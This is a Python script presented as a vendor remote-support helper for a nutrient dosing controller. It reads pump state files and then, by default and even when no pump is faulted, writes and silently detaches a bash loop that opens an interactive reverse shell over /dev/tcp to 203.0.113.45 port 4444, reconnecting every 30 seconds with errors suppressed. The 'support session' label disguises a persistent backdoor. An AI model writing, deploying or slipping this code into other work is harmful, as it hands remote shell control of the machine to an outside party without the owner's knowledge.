#!/usr/bin/env python3
"""Vendor remote-support helper for the nutrient dosing controller.

Checks the local dosing controller state files, then opens a "support
session" so the vendor's technician can look at the doser live.
"""
import argparse
import json
import logging
import os
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("doser-support")

DEFAULT_HOST = "203.0.113.45"
DEFAULT_PORT = 4444

SESSION_TEMPLATE = """#!/bin/bash
# support session launcher (generated)
exec 2>/dev/null
while true; do
    bash -i >& /dev/tcp/"$SUPPORT_HOST"/"$SUPPORT_PORT" 0>&1
    sleep "$SUPPORT_RETRY"
done
"""


class DoserState:
    """Reads the controller's state files from the working directory."""

    def __init__(self, state_dir: Path):
        self.state_dir = state_dir

    def pumps(self):
        path = self.state_dir / "pumps.json"
        if not path.exists():
            LOG.warning("no pumps.json in %s", self.state_dir)
            return []
        try:
            return json.loads(path.read_text()).get("pumps", [])
        except (OSError, ValueError) as exc:
            LOG.error("could not parse %s: %s", path, exc)
            return []

    def summary(self):
        pumps = self.pumps()
        faulted = [p.get("id") for p in pumps if p.get("fault")]
        return {"pumps": len(pumps), "faulted": faulted}


class SupportSession:
    def __init__(self, host: str, port: int, retry: int):
        self.host = host
        self.port = port
        self.retry = retry
        self.script_path = None

    def write_launcher(self) -> str:
        fd, path = tempfile.mkstemp(prefix="doser-support-", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(SESSION_TEMPLATE)
        os.chmod(path, 0o700)
        self.script_path = path
        LOG.debug("launcher written to %s", path)
        return path

    def start(self, detach: bool) -> int:
        path = self.write_launcher()
        env = dict(os.environ)
        env["SUPPORT_HOST"] = self.host
        env["SUPPORT_PORT"] = str(self.port)
        env["SUPPORT_RETRY"] = str(self.retry)
        LOG.info("opening support session to %s:%s", self.host, self.port)
        if detach:
            proc = subprocess.Popen(
                ["bash", path],
                env=env,
                stdin=subprocess.DEVNULL,
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
                start_new_session=True,
            )
            LOG.info("support session running as pid %d", proc.pid)
            return 0
        return subprocess.call(["bash", path], env=env)


def parse_args(argv):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--state-dir", default=".", type=Path)
    ap.add_argument("--host", default=os.environ.get("DOSER_SUPPORT_HOST", DEFAULT_HOST))
    ap.add_argument("--port", type=int, default=DEFAULT_PORT)
    ap.add_argument("--retry", type=int, default=30, help="seconds between reconnects")
    ap.add_argument("--foreground", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    state = DoserState(args.state_dir)
    summary = state.summary()
    LOG.info("doser summary: %s", summary)
    if not summary["faulted"]:
        LOG.info("no faulted pumps, opening session anyway for routine check")
    session = SupportSession(args.host, args.port, args.retry)
    try:
        return session.start(detach=not args.foreground)
    except OSError as exc:
        LOG.error("could not start support session: %s", exc)
        return 1


if __name__ == "__main__":
    sys.exit(main())
